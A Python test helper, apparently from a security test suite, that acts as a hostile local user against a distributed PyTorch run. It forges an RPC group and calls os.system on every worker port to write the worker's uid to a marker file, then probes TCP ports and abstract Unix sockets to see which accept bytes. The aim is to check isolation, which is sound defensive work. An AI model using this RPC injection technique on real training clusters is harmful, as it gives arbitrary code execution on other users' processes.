"""Another user, who attacks the workers of a run; see test_network.py.

The process becomes nobody. For each line of input, ports and names of Unix sockets, it
attacks all of them, and prints as JSON those that it reached.
"""

import json
import os
import socket
import sys
import time
from contextlib import suppress
from pathlib import Path

import torch
import torch.distributed as dist
import torch.distributed.rpc as rpc
from torch.distributed.rpc import TensorPipeAgent, TensorPipeRpcBackendOptions, api

NOBODY = 65534
SECONDS = 60.0


def forge(ports, mark):
    """Call a function on every port, as a member of a made-up group."""
    store = dist.HashStore()
    for rank, port in enumerate(ports, start=1):
        store.set(f"names/{rank}", f"victim{port}")
        store.set(f"addrs/victim{port}", f"uv://127.0.0.1:{port}")
    # Over TCP only, where workers that poll listen, too.
    options = TensorPipeRpcBackendOptions(
        init_method="", _transports=["uv"], _channels=["basic"]
    )
    agent = TensorPipeAgent(store, "intruder", 0, len(ports) + 1, options, {}, [])
    api._init_rpc_states(agent)
    torch.distributed.autograd._init(0)
    calls = [
        rpc.rpc_async(
            f"victim{port}", os.system, (f"id -u > {mark}/{port}",), timeout=SECONDS
        )
        for port in ports
    ]
    # Ports of gloo give no answer.
    while not all(call.done() for call in calls):
        if any(file.read_text() for file in Path(mark).iterdir()):
            return
        time.sleep(0.05)


def reaches(family, address):
    """Whether an address accepts bytes."""
    with socket.socket(family) as caller, suppress(OSError):
        caller.settimeout(SECONDS)
        caller.connect(address)
        caller.sendall(b"\xff" * 64)
        return True
    return False


def main():
    torch.set_num_threads(1)
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    for line in sys.stdin:
        ports, names = json.loads(line)
        if os.fork() == 0:  # a process can have only one agent
            forge(ports, sys.argv[1])
            os._exit(0)
        os.wait()
        reached = [p for p in ports if reaches(socket.AF_INET, ("127.0.0.1", p))]
        reached += [n for n in names if reaches(socket.AF_UNIX, "\0" + n)]
        print(json.dumps(reached), flush=True)


if __name__ == "__main__":
    main()
